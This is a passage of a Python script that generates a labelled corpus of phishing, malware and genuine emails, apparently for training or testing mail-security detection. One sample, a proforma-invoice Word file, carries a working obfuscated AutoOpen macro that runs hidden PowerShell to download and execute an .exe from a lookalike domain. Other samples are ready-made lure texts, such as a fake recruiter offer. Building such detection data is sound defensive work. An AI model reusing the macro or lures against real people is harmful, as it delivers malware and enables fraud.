    "DHL shipping-documents lure from a lookalike domain carrying an ISO disc image that holds a .pdf.lnk starting rundll32 on a DLL shipped beside it, to dodge Mark-of-the-Web.",
    ip="103.147.184.39", helo="mail.dhl-docs-in.com")

# --- M4 Fake recruiter: password-protected archive on Google Drive, password in the body
_u = f"https://drive.google.com/uc?id=1{B64('m4', n=32)}&export=download"
_pl = (f"Dear Maricel,\n\nCongratulations! Following your application, we are pleased to offer you the position of Social Media Executive (Remote) "
       f"at {hg('Shopee', 'oe')} Philippines with a monthly salary of PHP 48,000.\n\nPlease download your offer package (contract, onboarding "
       f"guide and NDA) and review it before Friday:\n{_u}\n\nThe archive is protected. Password: SPH2025\n\nBest regards,\n"
       f"Talent Acquisition Team\n{hg('Shopee', 'oe')} Philippines\n")
add("recruiter-drive-password-zip", "malware", "phish", "maricel", "2025-08-05 10:21:13 +0800",
    ("Shopee PH Talent Acquisition", "careers.shopeeph.ta@gmail.com"), hg("Job Offer: Social Media Executive (Remote) – Shopee Philippines", "oe"),
    gmail_body("m4", _pl), "Fake-recruiter malware lure from Gmail with Cyrillic letters in the brand, linking a Google Drive direct download of a password-protected archive (password in the body, so scanners cannot open it).",
    **GM(6, "m4"))

# --- M5 Proforma invoice .docm with a string-concatenated AutoOpen macro
_vba = ('Attribute VB_Name = "NewMacros"\r\nSub AutoOpen()\r\n    Dim a As String, b As String\r\n    a = "po" & "wer" & "sh" & "ell"\r\n'
        '    b = " -w hid" & "den -ep by" & "pass -c ""iwr https://chifarms-ng.com/cdn/pi.exe -OutFile $env:TEMP\\pi.exe; start $env:TEMP\\pi.exe"""\r\n'
        '    CreateObject("WScr" & "ipt.Shell").Run a & b, 0, False\r\nEnd Sub\r\n')
_doc = files.docx(["PROFORMA INVOICE PI-4471", "This document was created in an earlier version of Microsoft Word.",
                   "To view the content, click Enable Editing and then Enable Content."], "Proforma Invoice", "Procurement", _vba)
add("proforma-docm-macro", "malware", "phish", "adaeze", "2024-02-27 11:38:02 +0100",
    ("Procurement - CHI Farms", "procurement@chifarms-ng.com"), "Proforma Invoice PI-4471 / Order confirmation",
    mixed("m5", T("Good day Madam,\n\nKindly find attached proforma invoice PI-4471 for the supply of 400 crates of eggs and confirm the order.\n\nBest regards,\nProcurement Unit\n"),
          attachment("application/vnd.ms-word.document.macroEnabled.12", "Proforma_Invoice_PI-4471.docm", _doc)),
    "Proforma-invoice lure from a lookalike of a Nigerian food supplier with a macro-enabled Word file whose AutoOpen macro builds a hidden PowerShell download command from string fragments.",
    ip="91.243.44.130", helo="mail.chifarms-ng.com", auth=("pass", "none", "none"))

# ============================================================== legitimate (25)

def promo(brand: str, colour: str, pre: str, hero: tuple[str, str], items: list[tuple[str, str, str, str]], foot: str, css: str = "") -> str:
    """Image-heavy marketing layout: hero banner and a two-column grid of (image, title, caption, link) tiles."""
    tiles = [f'<td width="50%" valign="top" style="padding:8px"><a href="{u}"><img src="{img}" width="268" style="display:block;width:100%;border:0" alt="{t}"></a>'
             f'<p style="font-size:14px;margin:6px 0 2px;color:#222"><b>{t}</b></p><p style="font-size:13px;margin:0;color:{colour}">{c}</p></td>' for img, t, c, u in items]
    rows = "".join(f"<tr>{tiles[i]}{tiles[i + 1] if i + 1 < len(tiles) else '<td></td>'}</tr>" for i in range(0, len(tiles), 2))
    inner = (f'<tr><td align="center" style="padding:14px;background:{colour}"><span style="color:#fff;font-size:24px;font-weight:bold">{brand}</span></td></tr>'
             f'<tr><td><a href="{hero[1]}"><img src="{hero[0]}" width="600" style="display:block;width:100%;border:0" alt="{brand}"></a></td></tr>'
             f'<tr><td><table role="presentation" width="100%" cellpadding="0" cellspacing="0">{rows}</table></td></tr>'
             f'<tr><td style="padding:18px;font-size:11px;color:#777;text-align:center;line-height:16px">{foot}</td></tr>')
    return page(inner, css, pre, "#eeeeee")


# --- L01 PayPal payment receipt (genuine)
_tx = "7XK41982LM3304418"
_h = card("PayPal", "#003087", "You sent $86.40 USD to Maple &amp; Moss Candles", [
    "Hi Dana Whitfield,", "Transaction ID: <a href=\"https://www.paypal.com/myaccount/transaction/details/" + _tx + "?utm_source=unp&amp;utm_medium=email&amp;utm_campaign=RT000269&amp;utm_unptid=" + H("l01", n=32) + "\">" + _tx + "</a>",
    "Transaction date: Apr 2, 2024<br>Merchant: Maple &amp; Moss Candles<br>Instructions to merchant: please gift wrap 🎁",
    "It may take a few moments for this transaction to appear in your account."],
    ("View transaction", f"https://www.paypal.com/myaccount/transaction/details/{_tx}?utm_source=unp&utm_medium=email&utm_campaign=RT000269"),
    'Help &amp; Contact | Security | <a href="https://www.paypal.com/us/smarthelp/home">Apps</a><br>' + FOOT_PP, pre="You sent a payment of $86.40 USD to Maple &amp; Moss Candles")
add("paypal-payment-receipt", "bulk", "bulk", "dana", "2024-04-02 16:04:11 -0700",
    ("PayPal", "service@paypal.com"), "Receipt for your payment to Maple & Moss Candles",
    kit("l01", _h, "jm"), "Genuine PayPal payment receipt from paypal.com (SPF/DKIM/DMARC pass) with a hidden preheader padded with &zwnj;, UTM-tagged links and an emoji in the buyer's note.",
    ip="173.0.84.4", helo="mx1.phx.paypal.com", sel="pp-dkim1", p="reject")

# --- L02 Amazon shipment (Amazon's own click-tracking redirect)
def amz(path: str, tag: str) -> str:
    return (f"https://www.amazon.com/gp/r.html?C={H('l02c', n=14).upper()}&K={H('l02k', n=13).upper()}&M=urn:rtn:msg:2024061218{H('l02m', n=20)}"
            f"&R={H(tag, n=12).upper()}&T=C&U={pct('https://www.amazon.com' + path)}&H={H(tag, 'h', n=24).upper()}&ref_=pe_123508920_{H(tag, n=6)}")


_h = card("amazon", "#ff9900", "Your package is on the way! 📦", [
    "Hi Kelly, your package with <b>Ninja AF101 Air Fryer, 4 Qt</b> and 1 more item has shipped and will arrive <b>Friday, June 14</b>.",
    f'<a href="{amz("/progress-tracker/package/ref=pe_ship?_encoding=UTF8&orderId=113-5524108-3391862", "trk")}">Track package</a> &middot; '
    f'<a href="{amz("/gp/css/order-history", "ord")}">View or manage order</a>',
    "Order #113-5524108-3391862<br>Ship to: Kelly Ortega, Sacramento, CA"],
    None, f'<a href="{amz("/gp/help/customer/display.html", "help")}">Help</a> &middot; This email was sent from a notification-only address that cannot accept incoming email.',
    pre="Arriving Friday")
add("amazon-shipped-tracking", "bulk", "bulk", "kelly", "2024-06-12 18:42:37 +0000",
    ("Amazon.com", "shipment-tracking@amazon.com"), 'Shipped: "Ninja AF101 Air Fryer, 4 Qt" and 1 more item',
    kit("l02", _h, "jm"), "Genuine Amazon shipping notification sent through Amazon SES (all pass), every link wrapped in Amazon's gp/r.html click-tracking redirect with a %-encoded destination.",
    ip="54.240.13.36", helo="a13-36.smtp-out.amazonses.com", mailfrom=f"20240612184237{H('l02r', n=10)}@bounces.amazon.com",
    sel="rjbutl7cfq3yp2ekfbxt5xfxbrhhm5c", p="quarantine")

# --- L03 Netflix 'new this week' newsletter, image heavy, emoji subject
_nt = lambda p, t: f"https://www.netflix.com{p}?trkid={H('l03', t, n=8)}&mqso=80033131&lnktrk=EVO&g={H('l03g', n=36)}&lkid={t}"  # noqa: E731
_h = promo("NETFLIX", "#e50914", "Three new series and a documentary everyone is talking about",
           ("https://assets.nflxext.com/us/email/gem/hero/2025/w18-hero-uk.jpg", _nt("/browse", "HERO")),
           [("https://assets.nflxext.com/us/email/gem/tiles/81760412.jpg", "Adolescence", "Limited series &middot; New", _nt("/title/81760412", "T1")),
            ("https://assets.nflxext.com/us/email/gem/tiles/81712445.jpg", "The Four Seasons", "Comedy &middot; New", _nt("/title/81712445", "T2")),
            ("https://assets.nflxext.com/us/email/gem/tiles/81588273.jpg", "Black Mirror: Season 7", "Returning", _nt("/title/81588273", "T3")),
            ("https://assets.nflxext.com/us/email/gem/tiles/81937720.jpg", "Royal Expedition", "Documentary", _nt("/title/81937720", "T4"))],
           f'This message was sent to tom.ashworth@outlook.com.<br><a href="{_nt("/EmailUnsubscribe", "UNSUB")}">Unsubscribe</a> &middot; Netflix International B.V.')
add("netflix-new-this-week", "bulk", "bulk", "tom", "2025-05-02 17:10:26 +0000",
    ("Netflix", "info@members.netflix.com"), "🍿 New on Netflix this week: Adolescence, Black Mirror and more",
    kit("l03", _h, "jm"), "Genuine Netflix 'new this week' newsletter: image-only tiles, hidden &zwnj;-padded preheader, tracking parameters on every link, emoji subject, all authentication passing.",
    ip="54.240.48.91", helo="a48-91.smtp-out.amazonses.com", mailfrom=f"{H('l03b', n=24)}@bounce.members.netflix.com", sel="s2", p="reject",
    extra=["List-Unsubscribe: <https://www.netflix.com/EmailUnsubscribe?g=" + H("l03g", n=36) + ">", "List-Unsubscribe-Post: List-Unsubscribe=One-Click"])

# --- L04 Microsoft account security alert (genuine)
_h = card("Microsoft account", "#2672ec", "New sign-in detected", [
    "We detected a new sign-in to the Microsoft account <b>to*****@outlook.com</b>.",
    "Country/region: United Kingdom<br>IP address: 86.142.77.19<br>Date: 14/11/2025 19:03 (GMT)<br>Platform: iOS<br>App: Outlook for iOS",
    'If this was you, you can safely ignore this email. If you don\'t recognise this activity, please <a href="https://account.live.com/Activity">review your recent activity</a> and we\'ll help you take corrective action.',
    'To opt out or change where you receive security notifications, <a href="https://account.live.com/SecurityNotifications/Update">click here</a>.'],
    None, "Thanks,<br>The Microsoft account team<br>Microsoft Corporation, One Microsoft Way, Redmond, WA 98052")
add("microsoft-new-signin-alert", "bulk", "bulk", "tom", "2025-11-14 19:04:12 +0000",
    ("Microsoft account team", "account-security-noreply@accountprotection.microsoft.com"), "Microsoft account security alert",
    kit("l04", _h, "ol"), "Genuine Microsoft account 'new sign-in detected' alert from accountprotection.microsoft.com (all pass), linking only to account.live.com.",
    ip="40.107.211.94", helo="NAM11-CO1-obe.outbound.protection.outlook.com", sel="selector1", p="reject")

# --- L05 Microsoft 365 invoice for the HVAC firm (genuine)
_h = card("Microsoft", "#0067b8", "Your invoice is ready", [
    "Hello Mike Brennan,", "Your Microsoft invoice <b>G054112873</b> for Brightline HVAC LLC is now available.",
    "Billing period: Dec 1 - Dec 31, 2024<br>Microsoft 365 Business Standard &times; 6<br>Amount due: <b>$75.00</b> (paid automatically by Visa ending 4420)",
    "You can view and download the invoice in the Microsoft 365 admin center."],
    ("View invoice", "https://admin.microsoft.com/Adminportal/Home#/BillingAccounts/invoices"),
    'Microsoft Corporation, One Microsoft Way, Redmond, WA 98052 &middot; <a href="https://go.microsoft.com/fwlink/?LinkId=521839">Privacy Statement</a>')
add("m365-invoice-ready", "bulk", "bulk", "mike", "2025-01-03 05:41:20 -0800",
    ("Microsoft", "microsoft-noreply@microsoft.com"), "Your Microsoft invoice G054112873 is ready",
    kit("l05", _h, "ol"), "Genuine Microsoft 365 monthly invoice notice from microsoft.com (all pass) linking to admin.microsoft.com and go.microsoft.com fwlinks.",
    ip="52.101.40.77", helo="CH5PR02CU005.outbound.protection.outlook.com", sel="s1024-meo", p="reject")

# --- L06 Google 'new sign-in' security alert (genuine)
_h = card("Google", "#1a73e8", "A new sign-in on Windows", [
    "priya.raman84@gmail.com", "We noticed a new sign-in to your Google Account on a Windows device. If this was you, you don't need to do anything. If not, we'll help you secure your account.",
    f'<a href="https://accounts.google.com/AccountChooser?Email=priya.raman84@gmail.com&amp;continue=https://myaccount.google.com/alert/nt/1718012455000?rfn%3D325%26rfnc%3D1%26eid%3D{H("l06", n=20)}%26et%3D0">Check activity</a>',
    'You can also see security activity at<br>https://myaccount.google.com/notifications'],
    None, "You received this email to let you know about important changes to your Google Account and services.<br>&copy; 2024 Google LLC, 1600 Amphitheatre Parkway, Mountain View, CA 94043, USA")
add("google-security-alert", "bulk", "bulk", "priya", "2024-06-10 14:57:35 +0000",
    ("Google", "no-reply@accounts.google.com"), "Security alert",
    kit("l06", _h, "gm"), "Genuine Google account 'new sign-in on Windows' alert from accounts.google.com (all pass) with the AccountChooser continue link.",
    ip="209.85.220.73", helo="mail-sor-f73.google.com", sel="20230601", p="reject")

# --- L07 Genuine DocuSign envelope for a lease renewal
_e = f"{H('l07', n=8)}-{H('l07', n=12)[8:]}-4{H('l07b', n=3)}-b{H('l07c', n=3)}-{H('l07d', n=12)}"
_h = card("DocuSign", "#ffc820", "Ohio Commercial Realty sent you a document to review and sign.", [
    "<b>Laura Chen</b><br>lchen@ohiocommercialrealty.com",
    "Hi Mike, here is the lease renewal for Unit B at 2250 Dublin Granville Rd for the next three years. Rent schedule is unchanged from what we discussed. Thanks!"],
    ("REVIEW DOCUMENT", f"https://na3.docusign.net/Signing/EmailStart.aspx?a={_e}&etti=24&acct={H('l07a', n=8)}-{H('l07a', n=12)[8:]}-4{H('l07x', n=3)}-8{H('l07y', n=3)}-{H('l07z', n=12)}&er={H('l07r', n=8)}-{H('l07r', n=12)[8:]}-4{H('l07s', n=3)}-9{H('l07t', n=3)}-{H('l07u', n=12)}"),
    "Do Not Share This Email. This email contains a secure link to Docusign. Please do not share this email, link, or access code with others.<br>"
    "Alternate Signing Method: visit docusign.com, click 'Access Documents', and enter the security code: " + H("l07sc", n=32).upper())
add("docusign-lease-renewal", "bulk", "bulk", "mike", "2024-09-17 13:22:08 -0700",
    ("Laura Chen via Docusign", "dse_NA3@docusign.net"), "Complete with Docusign: Unit B Lease Renewal 2024-2027.pdf",
    kit("l07", _h, "jm"), "Genuine DocuSign envelope from the firm's landlord's agent: docusign.net passes everything, Reply-To is the agent's own address and the link is the standard EmailStart signing URL.",
    ip="64.207.219.13", helo="mailna3.docusign.net", mailfrom="bounces@docusign.net", sel="s1", p="reject",
    reply_to=("Laura Chen", "lchen@ohiocommercialrealty.com"))

# --- L08 Chase fraud alert asking the customer to call (genuine)
_h = card("CHASE", "#117aca", "Did you make this transaction?", [
    "We're checking with you before we approve this transaction on your debit card ending in 5521:",
    "<b>$842.19</b> at BESTBUY.COM on Jun 3, 2025 at 3:14 PM ET",
    "If you made it, you don't need to do anything. If you didn't, call us at <b>1-800-935-9935</b> or the number on the back of your card. "
    "You can also review it in the Chase Mobile&reg; app.", "We will never ask you for your password, PIN or one-time code by email."],
    None, 'Chase Fraud Services &middot; <a href="https://www.chase.com/digital/resources/privacy-security">Privacy &amp; security</a><br>JPMorgan Chase Bank, N.A. Member FDIC')
add("chase-fraud-alert-call", "bulk", "bulk", "kelly", "2025-06-03 15:16:40 -0400",
    ("Chase Fraud Services", "no.reply.alerts@chase.com"), "Did you make this transaction? Card ending in 5521",
    kit("l08", _h, "jm"), "Genuine Chase fraud alert from chase.com (all pass) asking the customer to call the number on the back of the card, with no sign-in link.",
    ip="159.53.110.45", helo="mail5.chase.com", mailfrom="bounce@alertsp.chase.com", sel="chase2024", p="reject")

# --- L09 Royal Mail tracking notification (genuine)
_h = card("Royal Mail", "#da202a", "Your item is on its way 📬", [
    "Hi Tom, your item from <b>Waterstones</b> is out for delivery today.",
    "Tracking number: <b>JR 20 4471 185 GB</b><br>Estimated delivery: today, 10:30 - 13:30",
    'Not going to be in? You can <a href="https://www.royalmail.com/track-your-item#/tracking-results/JR204471185GB?utm_source=outfordelivery&amp;utm_medium=email">choose a safe place or a neighbour</a>.'],
    ("Track your item", "https://www.royalmail.com/track-your-item#/tracking-results/JR204471185GB?utm_source=outfordelivery&utm_medium=email"),
    "Royal Mail Group Ltd, 185 Farringdon Road, London EC1A 1AA. This is an automated email, please don't reply.", pre="Out for delivery today")
add("royalmail-out-for-delivery", "bulk", "bulk", "tom", "2024-12-11 07:02:44 +0000",
    ("Royal Mail", "no-reply@royalmail.com"), "Your Royal Mail item JR204471185GB is out for delivery 📬",
    kit("l09", _h, "mc"), "Genuine Royal Mail out-for-delivery notice from royalmail.com (all pass) with emoji subject, hidden preheader and UTM-tagged royalmail.com tracking links.",
    ip="167.89.12.203", helo="o3.ptr8817.royalmail.com", mailfrom=f"bounces+2217{H('l09', n=6)}@em8817.royalmail.com", sel="s1", p="reject")

# --- L10 Yarn supplier's invoice (business mail, PDF)
_pl = ("Dear Anil,\n\nPlease find attached our invoice CSM/2025-26/0412 for the 2,400 kg of 40s combed cotton yarn dispatched on 3 Sept "
       "(LR no. 88214, VRL Logistics).\n\nAmount: Rs. 7,18,560 incl. GST, due within 30 days as per our terms. Bank details are unchanged "
       "(HDFC Bank, Coimbatore main branch).\n\nPlease acknowledge receipt.\n\nWarm regards,\nMeera Iyer\nAccounts, Coimbatore Spinning Mills\n+91 422 255 8140\n")
_pdf = files.pdf(["COIMBATORE SPINNING MILLS PVT LTD", "GSTIN 33AABCC4417K1Z2", "", "TAX INVOICE CSM/2025-26/0412   Date: 05-09-2025",
                  "Bill to: Sunrise Textiles, Surat", "40s Combed Cotton Yarn  2,400 kg @ Rs. 254.00 = Rs. 6,09,600.00",
                  "IGST 18% = Rs. 1,08,960.00", "Total: Rs. 7,18,560.00", "Payment: 30 days, HDFC Bank A/c as per records"], title="Invoice CSM-2025-26-0412")
add("supplier-yarn-invoice", "clean", "legit", "anil", "2025-09-05 17:26:51 +0530",
    ("Meera Iyer", "accounts@coimbatorespinners.com"), "Invoice CSM/2025-26/0412 – 40s combed yarn dispatch",
    mixed("l10", gmail_body("l10", _pl), attachment("application/pdf", "Invoice_CSM-2025-26-0412.pdf", _pdf), style="gm"),
    "Real invoice from a yarn supplier's Google Workspace mailbox (all pass) with a PDF tax invoice, explicitly saying the bank details are unchanged.",
    ip="209.85.216.52", helo="mail-pj1-f52.google.com", sel="google")

# --- L11 Lazada 11.11 newsletter, emoji subject, click-tracking domain
_lz = lambda t: f"https://click.mail.lazada.com.ph/?qs={H('l11', t, n=96)}"  # noqa: E731
_h = promo("Lazada", "#0f146d", "11.11 Biggest Sale: up to 90% off + ₱1,111 vouchers",
           ("https://img.lazcdn.com/us/domino/2024-11/1111-hero-ph.jpg", _lz("hero")),
           [("https://img.lazcdn.com/g/p/1111-t1.jpg", "Flash Deals", "From ₱11", _lz("t1")), ("https://img.lazcdn.com/g/p/1111-t2.jpg", "LazMall Brands", "Up to 70% off", _lz("t2")),
            ("https://img.lazcdn.com/g/p/1111-t3.jpg", "Free Shipping", "Min. spend ₱99", _lz("t3")), ("https://img.lazcdn.com/g/p/1111-t4.jpg", "GCash Deals", "Extra ₱111 off", _lz("t4"))],
           f'You are receiving this email because you subscribed to Lazada. <a href="{_lz("unsub")}">Unsubscribe</a><br>Lazada E-Services Philippines, Inc.')
add("lazada-1111-newsletter", "bulk", "bulk", "jerome", "2024-11-10 20:00:07 +0800",
    ("Lazada Philippines", "promotions@mail.lazada.com.ph"), "🔥 11.11 Biggest Sale starts NOW! Up to 90% off + ₱1,111 vouchers 🛒",
    kit("l11", _h, "sg"), "Genuine Lazada sale newsletter: image-only layout, every link through the click.mail.lazada.com.ph tracking redirect, emoji subject, &zwnj;-padded hidden preheader, authentication passing.",
    ip="13.111.74.22", helo="mta.mail.lazada.com.ph", mailfrom=f"bounce-{H('l11b', n=12)}@mail.lazada.com.ph", sel="200608", p="reject",
    extra=[f"List-Unsubscribe: <{_lz('lu')}>"])

# --- L12 GTBank transaction alert (genuine)
_rows = [("Account Number", "******4471"), ("Transaction Location", "ONLINE"), ("Description", "NIP TRF FROM ADEBAYO KOLA/SCHOOL FEES REFUND"),
         ("Amount", "NGN 250,000.00"), ("Value Date", "07-Mar-2025"), ("Time of Transaction", "10:22:41 AM"), ("Current Balance", "NGN 412,880.15")]
_h = card("GTBank", "#dd4f05", "Guaranty Trust Bank Electronic Notification Service (GeNS)", [
    "Dear CHINEDU OKAFOR,", "We wish to inform you that a <b>CREDIT</b> transaction occurred on your account with us. The details are shown below:",
    "<table style='border-collapse:collapse;font-size:13px'>" + "".join(f"<tr><td style='padding:4px 10px;border:1px solid #ddd'>{a}</td><td style='padding:4px 10px;border:1px solid #ddd'>{b}</td></tr>" for a, b in _rows) + "</table>",
    "For enquiries, call GTConnect on 0700 482 666 328 or email gtbank@gtbank.com. GTBank will never ask for your PIN, password or BVN by email."],
    None, "Guaranty Trust Bank Ltd. Plot 635, Akin Adesola Street, Victoria Island, Lagos.")
add("gtbank-credit-alert", "bulk", "bulk", "chinedu", "2025-03-07 10:23:05 +0100",
    ("GTBank", "gens@gtbank.com"), "GeNS Transaction Alert [Credit: NGN 250,000.00]",
    kit("l12", _h, "jm"), "Genuine GTBank GeNS credit alert from gtbank.com (all pass): a table of transaction details and the bank's published contact centre number, no links.",
    ip="196.46.246.37", helo="gens-mta02.gtbank.com", sel="gtb", p="quarantine")

# --- L13 Paystack settlement notice through SendGrid click tracking
_sg = lambda t: f"https://u2871945.ct.sendgrid.net/ls/click?upn=u001.{B64('l13', t, n=120)}"  # noqa: E731
_h = card("paystack", "#011b33", "Your settlement has been paid 💸", [
    "Hi Adaeze,", "We've paid <b>&#8358;1,284,300.00</b> to your settlement account (Access Bank ****0912) for transactions processed on 18 Aug 2025.",
    f'Settlement ID: 4471830<br><a href="{_sg("set")}">View settlement breakdown</a>', "Thanks for using Paystack."],
    ("Go to Dashboard", _sg("dash")), f'Paystack Payments Limited, 3A Ladoke Akintola Street, Ikeja GRA, Lagos &middot; <a href="{_sg("help")}">Help</a>', pre="₦1,284,300.00 settled to Access Bank ****0912")
add("paystack-settlement-paid", "bulk", "bulk", "adaeze", "2025-08-19 09:05:33 +0100",
    ("Paystack", "hello@paystack.com"), "Your settlement of ₦1,284,300.00 has been paid 💸",
    kit("l13", _h, "sg"), "Genuine Paystack settlement notification sent via SendGrid (paystack.com passes), all links wrapped in ct.sendgrid.net click tracking, emoji subject and hidden preheader.",
    ip="149.72.154.88", helo="o1.ptr4471.paystack.com", mailfrom=f"bounces+2871945-{H('l13b', n=4)}-adaeze=lagosfreshfoods.com.ng@em4471.paystack.com", sel="s1", p="reject")

# --- L14 Friend forwards a lake-house booking with emoji
_pl = ("Hiii Dana!! 🏡☀️\n\nIt's booked!!! Forwarding the confirmation so you have the address. Check-in is 4pm Friday, I'll bring the "
       "kayaks 🛶 and you're on s'mores duty 😂\n\nVenmo me $212 whenever, no rush.\n\nR xx\n\n"
       "---------- Forwarded message ---------\nFrom: Airbnb <automated@airbnb.com>\nDate: Mon, Jul 8, 2024 at 9:14 PM\n"
       "Subject: Reservation confirmed for Lakeview Cabin with Dock - Lake George\nTo: <rachel.kim88@gmail.com>\n\n"
       "Your reservation is confirmed. You're going to Lake George!\nLakeview Cabin with Dock\nFri, Aug 9 - Sun, Aug 11, 2024\n"
       "Confirmation code: HMQ4X8KZ2T\nView itinerary: https://www.airbnb.com/trips/v1/reservation-details/ro/RESERVATION2_CHECKIN/HMQ4X8KZ2T\n")
add("friend-fwd-lake-house", "clean", "legit", "dana", "2024-07-08 21:31:02 -0400",
    ("Rachel Kim", "rachel.kim88@gmail.com"), "Fwd: Reservation confirmed for Lakeview Cabin 🏡☀️",
    gmail_body("l14", _pl), "Personal Gmail from a friend forwarding an Airbnb confirmation with lots of emoji, a payment request between friends and an airbnb.com itinerary link.",
    **GM(7, "l14"))

# --- L15 Brother writes about Mum's birthday and forwards a restaurant booking (BT mail)
_pl = ("Hi Tom,\n\nRight, Mum's 70th 🎉 - I've booked the Italian in Clifton for Saturday 15th at 7. Forwarding the confirmation below. "
       "Can you sort the cake? She liked the lemon one from last year 🍋\n\nSplit the bill three ways with Claire, yeah?\n\nBen\n\n"
       "-----Original Message-----\nFrom: OpenTable <member_services@opentable.com>\nSent: 02 March 2025 18:40\n"
       "Subject: Reservation confirmed at Casa Lucca\n\nTable for 8, Saturday 15 March 2025 at 19:00\nCasa Lucca, 12 Princess Victoria St, Bristol\n"
       "Modify or cancel: https://www.opentable.co.uk/book/view?rid=223817&confnumber=40117&token=" + H("l15", n=20) + "\n")
add("brother-mums-birthday-fwd", "clean", "legit", "tom", "2025-03-02 19:05:47 +0000",
    ("Ben Ashworth", "ben.ashworth@btinternet.com"), "Mum's 70th 🎉 + restaurant booking",
    T(_pl), "Personal mail from a BT Internet address about a family birthday with emoji and a forwarded OpenTable booking confirmation.",
    ip="213.120.69.84", helo="re-prd-rgout-004.btmx-prd.synchronoss.net", sel="btmx201904", p="none",
    extra=["X-Mailer: BT Email"])

# --- L16 Cousin shares Diwali plans and a forwarded IRCTC ticket
_pl = ("Hi Priya akka 🪔✨\n\nAmma asked me to send you the train details. We reach Chennai Central on 30th morning. Forwarding the IRCTC "
       "mail below. Can you pick us up? Also don't forget the murukku order from that shop in Mylapore 😋\n\nKarthik\n\n"
       "---------- Forwarded message ---------\nFrom: IRCTC <ticketadmin@irctc.co.in>\nDate: Sat, 12 Oct 2024 at 08:02\n"
       "Subject: Booking Confirmation on IRCTC, Train: 12658, 29-Oct-2024, 3A, SBC - MAS\n\nPNR No.: 4417728390\nTrain: 12658 / CHENNAI MAIL\n"
       "Quota: GENERAL (GN)\nPassengers: 3   Status: CNF/B2/33, CNF/B2/34, CNF/B2/36\nTotal Fare: Rs. 3,215.00\n")
add("cousin-diwali-irctc-fwd", "clean", "legit", "priya", "2024-10-12 09:40:18 +0530",
    ("Karthik Raman", "karthik.raman.blr@gmail.com"), "Fwd: Booking Confirmation on IRCTC – Diwali trip 🪔",
    gmail_body("l16", _pl), "Personal Gmail from a cousin with festival emoji forwarding an IRCTC train booking confirmation.",
    **GM(8, "l16"))

# --- L17 Sister in Dubai forwards a Remitly receipt
_pl = ("Hi Mars! 💸❤️\n\nNapadala ko na yung para kay Nanay, ₱25,000 via Remitly. Forwarding the receipt. Pakisabi kay Nanay na "
       "for the meds and the electric bill ha. Miss you all! 🇦🇪✈️🇵🇭\n\nJen\n\nBegin forwarded message:\n\nFrom: Remitly <no-reply@remitly.com>\n"
       "Date: 14 February 2025 at 7:32:10 PM GST\nSubject: Your transfer to Maricel Santos is complete\n\nTransfer to: Maricel Santos (GCash 0917 *** 2268)\n"
       "Amount received: PHP 25,000.00\nReference: R-AE-88174420\nTrack: https://www.remitly.com/ae/en/transfers/R-AE-88174420\n")
add("sister-dubai-remittance-fwd", "clean", "legit", "maricel", "2025-02-14 19:48:55 +0400",
    ("Jen Santos", "jen.santos.dxb@gmail.com"), "Fwd: Your transfer is complete 💸",
    gmail_body("l17", _pl), "Personal Gmail from a sister working in Dubai, Taglish with emoji, forwarding a Remitly transfer receipt to a GCash wallet.",
    **GM(9, "l17"))

# --- L18 MSP helpdesk asks staff to set up the Authenticator app (genuine)
_pl = ("Hi Mike,\n\nAs agreed on last week's call, we're turning on multi-factor authentication for all Brightline HVAC Microsoft 365 accounts on Monday, Feb 24.\n\n"
       "Before then, please have each staff member set up the Microsoft Authenticator app:\n1. Install Microsoft Authenticator from the App Store or Google Play.\n"
       "2. Go to https://aka.ms/mfasetup and sign in with your work account.\n3. Follow the prompts to add the app.\n\n"
       "You can check what's registered at https://mysignins.microsoft.com/security-info. We will never ask you for a code or your password by email or phone.\n\n"
       "Any questions, call us on (614) 555-0190 or reply here.\n\nThanks,\nDerek Sloan\nNorthpoint IT Solutions\n")
add("msp-mfa-rollout-notice", "clean", "legit", "mike", "2025-02-18 09:12:30 -0500",
    ("Derek Sloan - Northpoint IT", "helpdesk@northpointit.com"), "Action needed: set up Microsoft Authenticator before Feb 24",
    alt("l18", _pl, "<html><body><div style='font-family:Calibri,sans-serif;font-size:11pt'>" + _pl.replace("\n", "<br>\n") + "</div></body></html>", "ol"),
    "Genuine notice from the company's managed IT provider (Microsoft 365, all pass) announcing an MFA rollout with aka.ms and mysignins.microsoft.com links: urgent wording but legitimate.",
    ip="40.107.93.61", helo="NAM10-DM6-obe.outbound.protection.outlook.com", sel="selector1")

# --- L19 Xero 'invoice paid' notification
_h = card("xero", "#13b5ea", "Payment received for INV-0932 ✅", [
    "Hi Sophie,", "The Clifton Deli has paid invoice <b>INV-0932</b> (&pound;486.20) to Harbour Lane Bakery.",
    f'<a href="https://go.xero.com/app/!QmB7k/invoicing/view/{H("l19", n=8)}-{H("l19", n=12)[8:]}">View invoice in Xero</a>'],
    None, "Xero Limited, 1 Kingsway, London WC2B 6AN. You're receiving this because notifications are turned on for your organisation.")
add("xero-invoice-paid", "bulk", "bulk", "sophie", "2024-09-20 11:47:02 +0100",
    ("Xero", "messaging-service@post.xero.com"), "Payment received for INV-0932 ✅",
    kit("l19", _h, "sg"), "Genuine Xero payment notification from post.xero.com (all pass) with a go.xero.com deep link and emoji subject.",
    ip="198.37.152.201", helo="o201.post.xero.com", mailfrom=f"bounces+1102-{H('l19b', n=4)}-sophie=harbourlanebakery.co.uk@post.xero.com", sel="s1", p="reject")

# --- L20 The genuine supplier's monthly statement (counterpart to the bank-change fraud)
_pl = ("Hi Sophie,\n\nPlease find attached your November statement and invoice MF-22958 for last week's delivery (40 x 16kg strong white, 20 x 16kg wholemeal).\n\n"
       "Payment terms as usual, 30 days to our Lloyds account ending 4417 (no change).\n\nKind regards,\nDaniel Whitcombe\nCredit Controller\nMillbrook Flour Mills Ltd\n0117 955 2031\n")
_pdf = files.pdf(["MILLBROOK FLOUR MILLS LTD", "STATEMENT - NOVEMBER 2025", "Customer: Harbour Lane Bakery", "", "MF-22840  08/10/2025  paid",
                  "MF-22958  21/11/2025  GBP 1,148.60  due 21/12/2025", "", "Bank: Lloyds Bank plc  a/c ending 4417 (unchanged)"], title="Statement November 2025")
add("supplier-statement-genuine", "clean", "legit", "sophie", "2025-11-24 10:05:19 +0000",
    ("Daniel Whitcombe", "daniel.whitcombe@millbrookflour.co.uk"), "Statement November 2025 & invoice MF-22958",
    mixed("l20", alt("l20", _pl, "<html><body><div style='font-family:Calibri,sans-serif;font-size:11pt'>" + _pl.replace("\n", "<br>\n") + "</div></body></html>", "ol"),
          attachment("application/pdf", "Millbrook_Statement_Nov2025.pdf", _pdf), style="ol"),
    "Genuine monthly statement and invoice from the bakery's real flour supplier (its own Microsoft 365 domain, all pass) with a PDF, confirming the unchanged bank account.",
